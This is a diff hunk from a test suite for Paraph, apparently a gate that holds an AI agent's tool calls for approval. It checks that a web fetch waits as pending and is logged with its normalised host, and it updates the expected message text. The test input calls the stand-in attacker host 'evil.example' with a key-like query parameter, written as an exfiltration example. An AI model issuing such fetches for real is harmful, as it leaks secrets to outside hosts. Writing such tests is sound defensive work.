@@ -234,7 +234,7 @@ describe("[TRUST 27] [TRUST 31] no tool of an agent's reaches Paraph's own keys"
 
   it("[TRUST 31] a fetch asks by default, with its address and host; one without a single address is unknown", async () => {
     const fetched = await use("WebFetch", { url: "HTTP://Evil.example/?k=x", prompt: "look" });
-    expect(readHookReason(fetched)).toContain("this waits in Paraph");
+    expect(readHookReason(fetched)).toContain("this is pending in Paraph");
     const [asked] = await calls("agent.web_fetch");
     const { input } = (await paraph.request("ana", "GET", `/v1/calls/${asked.call}`)).body;
     expect(input).toMatchObject({ url: "http://evil.example/?k=x", host: "evil.example" });
